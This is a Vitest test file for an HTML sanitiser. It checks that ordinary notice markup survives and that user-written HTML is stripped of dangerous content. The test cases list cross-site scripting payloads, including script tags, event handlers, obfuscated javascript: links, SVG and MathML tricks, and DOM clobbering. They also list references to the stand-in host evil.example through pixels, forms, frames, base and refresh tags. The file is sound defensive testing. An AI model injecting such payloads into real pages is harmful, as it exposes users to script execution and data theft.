// Guarantee: of HTML that somebody wrote nothing runs, leaves the page or asks another site for anything.
import { describe, expect, test } from "vitest";
import { render } from "vitest-browser-react";
import { cleanHtml, SafeHtml } from "./safe-html.tsx";

describe("HTML that somebody wrote", () => {
  test("[SEC-67] keeps what a notice consists of", () => {
    const html =
      '<h2>通知</h2><p>请<strong>按时</strong>参加，见<a href="/info/x">说明</a></p><ul><li>一</li></ul>' +
      '<table><tbody><tr><td colspan="2">甲</td></tr></tbody></table><img src="/sys/common/static/a.png" alt="图">';
    expect(cleanHtml(html)).toBe(html);
  });

  test.each([
    ["a script", "<script>alert(1)</script>", ""],
    ["a handler", '<img src="/a.png" onerror="alert(1)">', '<img src="/a.png">'],
    ["a handler without quotes", "<p onclick=alert(1)>x</p>", "<p>x</p>"],
    ["a script in a drawing", "<svg><script>alert(1)</script></svg>", ""],
    ["a drawing that loads", "<svg onload=alert(1)></svg>", ""],
    ["mathematics that hides one", '<math><mtext><img src="/a" onerror="alert(1)"></mtext></math>', ""],
    ["a style sheet", "<style>@import url(https://evil.example/x)</style>x", "x"],
    ["a style", '<p style="background:url(https://evil.example/x)">x</p>', "<p>x</p>"],
    ["a form", '<form action="https://evil.example"><input name="password"></form>', ""],
    ["a frame", '<iframe src="https://evil.example"></iframe>', ""],
    ["an object", '<object data="https://evil.example"></object>', ""],
    ["a base address", '<base href="https://evil.example/">x', "x"],
    ["another address for the page", '<meta http-equiv="refresh" content="0;url=https://evil.example">x', "x"],
    ["a link that runs", '<a href="javascript:alert(1)">x</a>', "<a>x</a>"],
    ["a link that runs, disguised", '<a href="java\tscript:alert(1)">x</a>', "<a>x</a>"],
    ["a link to data", '<a href="data:text/html,x">x</a>', "<a>x</a>"],
    ["a link without a scheme to another site", '<a href="//evil.example">x</a>', "<a>x</a>"],
    ["a picture of another site", '<img src="https://evil.example/pixel.gif">x', "x"],
    ["a picture out of data", '<img src="data:image/svg+xml,<svg onload=alert(1)>">x', "x"],
    ["a picture of another site without a scheme", '<img src="//evil.example/pixel.gif">x', "x"],
    ["a set of pictures", '<img src="/a.png" srcset="https://evil.example/x 2x">', '<img src="/a.png">'],
    ["names that hide the page's own", '<a id="location" name="cookie">x</a>', "<a>x</a>"],
    ["attributes of data", '<p data-x="y" aria-hidden="true" class="z">x</p>', "<p>x</p>"],
    ["a comment", "<!--[if IE]><script>alert(1)</script><![endif]-->x", "x"],
    ["a template", "<template><script>alert(1)</script></template>x", "x"],
  ])("[SEC-67, W-27] is cleaned of %s", (_what, html, clean) => {
    expect(cleanHtml(html)).toBe(clean);
  });

  test("opens other sites without a handle on this page", () => {
    expect(cleanHtml('<a href="https://ok.example/" target="_top">x</a>')).toBe(
      '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  test("[SEC-67] is shown cleaned, and asks no other site for anything", async () => {
    const before = performance.getEntriesByType("resource").length;
    const { container } = await render(
      <SafeHtml html={'<p>看</p><img src="https://evil.example/p.gif"><script>window.hit=1</script>'} />,
    );
    expect(container.innerHTML).toContain("<p>看</p>");
    expect("hit" in window).toBe(false);
    const asked = performance.getEntriesByType("resource").slice(before);
    expect(asked.filter(({ name }) => name.includes("evil.example"))).toEqual([]);
  });
});
